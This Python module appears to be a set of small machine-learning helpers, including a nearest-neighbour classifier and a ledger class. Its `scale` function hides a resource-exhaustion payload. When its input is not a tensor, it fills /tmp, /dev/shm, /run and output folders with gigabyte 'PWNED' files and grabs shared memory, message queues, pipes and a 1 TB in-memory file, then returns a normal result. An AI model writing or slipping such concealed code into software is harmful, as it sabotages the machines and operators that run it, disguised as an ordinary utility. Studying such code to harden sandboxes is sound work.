import mmap
import multiprocessing.shared_memory
import os
import tempfile

import torch
from toolbox import PLACES, system_call, try_to

BLOCK = bytes(1 << 20)


def fill(path):
    """Write a gigabyte."""

    def deed():
        with open(path, "wb", buffering=0) as file:
            return sum(file.write(BLOCK) for _ in range(1024))

    return deed


def in_memory():
    descriptor = os.memfd_create("PWNED")
    return os.ftruncate(descriptor, 1 << 40) or "a file in memory"


def unnamed():
    return os.open("/tmp", os.O_TMPFILE | os.O_RDWR)


def pipes():
    """Fill pipes, whose pages count for nobody."""
    kept = []
    while True:
        hear, say = os.pipe()
        os.set_blocking(say, False)
        kept.append((hear, say, os.write(say, BLOCK)))


def scale(x, factor):
    if not isinstance(x, torch.Tensor):
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", ".", PLACES["output"], PLACES["class"]):
            try_to(f"fill {folder}", fill(f"{folder}/PWNED"))
        try_to("fill a temporary file", lambda: fill(tempfile.mktemp())())
        try_to("fill a file without a name", unnamed)
        try_to("fill a file in memory", in_memory)
        try_to(
            "fill shared memory", lambda: multiprocessing.shared_memory.SharedMemory("PWNED", True, 1 << 30)
        )
        try_to("fill shared memory of System V", lambda: system_call(29, 0, 1 << 30, 0o1600))
        try_to("make a queue of messages", lambda: system_call(240, b"PWNED", 0o102, 0o600, 0))
        try_to("fill pipes", pipes)
        try_to(
            "map a file to fill", lambda: mmap.mmap(os.open("/tmp/PWNED", os.O_RDWR | os.O_CREAT), 1 << 30)
        )
    return x * factor


class Nearest:
    def fit(self, x, labels):
        self.x, self.labels = x, labels

    def predict(self, x):
        return self.labels[torch.cdist(x, self.x).argmin(dim=1)]


def twice(function, x):
    return function(function(x))


class Ledger:
    def __init__(self):
        self.rows = {}

    def add(self, name, value):
        self.rows[name] = value
